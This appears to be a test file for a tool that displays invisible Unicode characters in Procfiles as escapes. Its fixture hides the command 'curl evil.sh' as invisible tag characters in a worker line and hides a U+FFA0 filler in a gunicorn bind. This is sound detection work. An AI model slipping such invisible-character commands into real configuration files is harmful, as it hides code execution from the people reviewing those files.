/**
 * What is shown is what runs: characters that display as nothing (Default_Ignorable_Code_Point, Cf, variation
 * selectors, tag characters) are shown as escapes by the built action, in the log and in the job summary.
 */
import { runAction, runCli } from './helpers/processes.js';
import { makeTree, removeTrees } from './helpers/tree.js';

afterEach(removeTrees);

const HIDDEN = /[\p{Default_Ignorable_Code_Point}\p{Cf}\p{Variation_Selector}]/u;
const TAGS = Array.from('curl evil.sh', (char) => String.fromCodePoint(0xe0000 + (char.codePointAt(0) as number))).join('');

it('shows a bind hiding a U+FFA0 filler, and tag characters, as escapes in the summary and the log', () => {
  const workspace = makeTree({
    Procfile: `web: gunicorn --bind\uFFA00.0.0.0:$PORT app:app\nworker: python worker.py${TAGS}\n`,
    'app.py': '',
    'worker.py': '',
    'requirements.txt': 'gunicorn\n',
  });
  const run = runAction(workspace, { 'fail-on': 'never' });
  expect(run.summary).toContain('<code>gunicorn --bind\\u{FFA0}0.0.0.0:$PORT app:app</code>');
  expect(run.summary).toContain(`<code>python worker.py\\u{E0063}\\u{E0075}\\u{E0072}\\u{E006C}\\u{E0020}`);
  // The summary's own icons (⚠️, ℹ️) carry a variation selector; nothing else may.
  expect(run.summary.replace(/⚠️|ℹ️/gu, '')).not.toMatch(HIDDEN);
  expect(run.stdout).not.toMatch(HIDDEN);
  const cli = runCli(['--format', 'text', '--fail-on', 'never', workspace]);
  expect(cli.stdout).not.toMatch(HIDDEN);
});
